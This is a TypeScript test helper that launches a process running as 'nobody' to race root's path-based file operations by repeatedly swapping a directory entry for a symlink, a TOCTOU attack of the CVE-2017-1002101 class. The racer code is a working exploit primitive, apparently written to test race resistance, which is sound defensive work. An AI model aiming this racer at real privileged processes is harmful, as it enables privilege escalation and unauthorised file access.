/**
 * A racer process running as `nobody` that keeps swapping a directory entry for a symlink, the
 * attack on root's path-based file operations (CVE-2017-1002101 class):
 *
 *   const r = await startRacer(dir, 'sub', '/victim');   // dir must be writable by nobody
 *   ... root operates on dir/sub ...
 *   const swaps = await r.stop();
 *
 * Each round renames `sub` away, puts a link to `target` in its place, then puts both back; the
 * window in which `sub` is the link is a few microseconds, over and over.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';

const NOBODY = 65534;

const SOURCE = `
const fs = require('fs');
const [dir, name, target, ms] = process.argv.slice(1);
const real = dir + '/' + name, tmp = dir + '/.' + name + '.tmp', lnk = dir + '/.' + name + '.lnk';
let end = Date.now() + Number(ms);
let swaps = 0;
const t = (f) => { try { f(); return true; } catch { return false; } };
process.stdin.on('data', () => undefined);
process.stdin.on('end', () => (end = 0));
function burst() {
  for (let i = 0; i < 200; i++) {
    t(() => fs.symlinkSync(target, lnk));
    if (!t(() => fs.renameSync(real, tmp))) continue;
    if (t(() => fs.renameSync(lnk, real))) swaps++;
    t(() => fs.renameSync(real, lnk));
    t(() => fs.renameSync(tmp, real));
  }
  if (Date.now() < end) setImmediate(burst); else { process.stdout.write(String(swaps)); process.exit(0); }
}
burst();
`;

export interface Racer {
  /** Stops it; resolves with the number of times the link was put in place. */
  stop(): Promise<number>;
}

export async function startRacer(dir: string, name: string, target: string, maxMs = 60_000): Promise<Racer> {
  const child = spawn('setpriv', [`--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups', process.execPath, '-e', SOURCE, dir, name, target, String(maxMs)], {
    stdio: ['pipe', 'pipe', 'inherit'],
  });
  let out = '';
  child.stdout.on('data', (b: Buffer) => (out += b.toString()));
  const exited = once(child, 'exit');
  return {
    async stop() {
      child.stdin.end();
      await exited;
      return Number(out) || 0;
    },
  };
}

/** Runs a command with `nobody`'s credentials: resolves with its exit code. */
export async function asNobody(cmd: string[]): Promise<number> {
  const child = spawn('setpriv', [`--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups', ...cmd], { stdio: 'ignore' });
  const [code] = (await once(child, 'exit')) as [number | null];
  return code ?? -1;
}
